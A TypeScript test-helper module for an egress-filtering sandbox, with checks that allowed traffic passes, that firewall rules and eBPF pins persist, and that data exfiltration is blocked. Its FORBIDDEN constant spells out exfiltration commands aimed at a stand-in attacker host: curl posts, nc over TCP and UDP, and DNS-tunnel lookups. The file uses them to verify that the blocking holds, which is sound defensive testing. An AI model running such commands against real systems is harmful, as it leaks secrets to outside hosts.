/**
 * What the tests of faults share: traffic that is allowed, traffic that is not, and a look at what is left.
 *
 * @module
 */

import assert from "node:assert/strict";
import { tool } from "../../src/demo/command.ts";
import { leftRules, rolesOf } from "./leftovers.ts";
import { EGRESS, type Finished, readLog } from "./run.ts";
import { Shell } from "./shell.ts";
import type { Scene } from "./suite.ts";
import { until } from "./until.ts";

/** Allows the sites that {@link works} and {@link Transfer} use. */
export const POLICY = "site.test\nraw.test:9000\nraw.test:9000/udp\n";

/**
 * Tries to get something out in every way that the attacker listens to, all at once. They are waited for by id: the
 * shell forgets jobs that have ended, so that counting its jobs could wait for a transfer that a test has open.
 */
const FORBIDDEN = "{ " + [
  "curl -s -m 1 -d secret --resolve evil.test:80:203.0.113.66 http://evil.test/",
  "curl -s -m 1 -d secret --resolve evil.test:443:203.0.113.66 https://evil.test/",
  "echo secret | nc -N -w 1 203.0.113.66 9000",
  "echo secret | nc -u -w 1 203.0.113.66 9000",
  "dig +tries=1 +time=1 secret.evil.test",
].map((attempt, n) => `{ ${attempt}; } & p${n}=$!; `).join("") +
  "wait $p0 $p1 $p2 $p3 $p4; } >/dev/null 2>&1; true";

/** Says `ping` to the raw server by UDP and prints its answer. */
export const PING =
  "timeout 2 bash -c 'exec 5<>/dev/udp/198.51.100.80/9000; echo ping >&5; head -n 1 <&5'";

/** Tries what is forbidden; all of it may fail, and none of it may arrive. */
export async function tryForbidden(scene: Scene, shell: Shell): Promise<void> {
  await shell.do(FORBIDDEN);
  await scene.attackerGotNothing();
}

/** Waits until a lookup, a request and a datagram come through. */
export async function works(shell: Shell): Promise<void> {
  const name = crypto.randomUUID();
  await until("allowed traffic passes", async () => {
    const said = await shell.do(
      `curl -sS -m 5 https://site.test/${name}; dig +short +tries=1 raw.test >/dev/null; ${PING}`,
    );
    return said.includes(`GET /${name} 0`) && said.includes("ping");
  });
}

/** Waits until requests to an allowed site fail. */
export async function fails(shell: Shell): Promise<void> {
  await until("allowed traffic is refused", async () => {
    return (await shell.do("curl -s -m 2 -w '%{http_code}' -o /dev/null https://site.test/")) ===
      "000";
  });
}

/** Kills every process of a role. @returns their ids */
export async function killRole(shell: Shell, role: string): Promise<number[]> {
  const pids = (await rolesOf(shell.run)).get(role) ?? [];
  for (const pid of pids) Deno.kill(pid, "SIGKILL");
  return pids;
}

/** Waits until a role runs, in other processes than those. */
export async function isBack(shell: Shell, role: string, old: number[]): Promise<void> {
  await until(`the ${role} role is back`, async () => {
    const pids = (await rolesOf(shell.run)).get(role) ?? [];
    return pids.length > 0 && !pids.some((pid) => old.includes(pid));
  });
}

/** Gate, attribution and rules of a run are still there. */
export async function stillArmed(scene: Scene, shell: Shell): Promise<void> {
  // The run's bpffs is mounted where its own processes see it.
  const process = `/proc/${shell.running.pid}`;
  const enter = [`--mount=${process}/ns/mnt`, `--root=${process}/root`];
  const folder = `/run/egress/${shell.run}/private/bpf/pins`;
  const pins = await tool(["nsenter", ...enter, "find", folder, "-type", "f"]);
  assert.match(pins, /links-\d+\//, pins);
  const rules = (await leftRules(scene.internet)).join("\n");
  for (const chain of ["M", "N", "F"]) {
    assert.match(rules, new RegExp(`-A OUTPUT .* -j EGRESS-${shell.run}-${chain}`), rules);
  }
}

/** Ends the run: its log is whole, and the attacker has nothing. */
export async function endWell(scene: Scene, shell: Shell, status = 0): Promise<Finished> {
  const run = await shell.end();
  assert.equal(run.status, status, run.stderr);
  await tool([EGRESS, "verify-log", shell.logFile]);
  await scene.attackerGotNothing();
  return run;
}

/** Waits for a line of the log that says that the scope is closed, and why. */
export async function closedFor(shell: Shell): Promise<string> {
  let why = "";
  await until("the scope is closed for good", async () => {
    const line = (await readLog(shell.logFile)).find((event) => event.error === "closed");
    why = line?.message ?? "";
    return line !== undefined;
  });
  return why;
}

/** An upload to the raw server that stays in its middle until it is told to go on. */
export class Transfer {
  static #count = 0;
  readonly #go: string;
  readonly #said: string;
  readonly #ended: string;

  private constructor(folder: string, readonly shell: Shell) {
    const base = `${folder}/transfer${Transfer.#count++}`;
    [this.#go, this.#said, this.#ended] = [`${base}.go`, `${base}.said`, `${base}.ended`];
  }

  /** Starts one and waits until the server has its first half. */
  static async start(scene: Scene, shell: Shell): Promise<Transfer> {
    const transfer = new Transfer(scene.folder, shell);
    const go = transfer.#go;
    await shell.do(`mkfifo ${go}; : >${transfer.#said}`);
    await shell.do(
      `{ { echo begin; read -r _ <${go}; echo end; } | nc -N raw.test 9000 >${transfer.#said}; ` +
        `echo $? >${transfer.#ended}; } &`,
    );
    await until("the transfer is under way", async () => {
      return (await Deno.readTextFile(transfer.#said)).includes("taken");
    });
    return transfer;
  }

  /** Lets it go on. @returns the status of its client */
  async finish(): Promise<number> {
    await Deno.writeTextFile(this.#go, "\n");
    let status = "";
    await until("the transfer ends", async () => {
      status = await Deno.readTextFile(this.#ended).catch(() => "");
      return status.endsWith("\n");
    });
    return Number(status);
  }
}
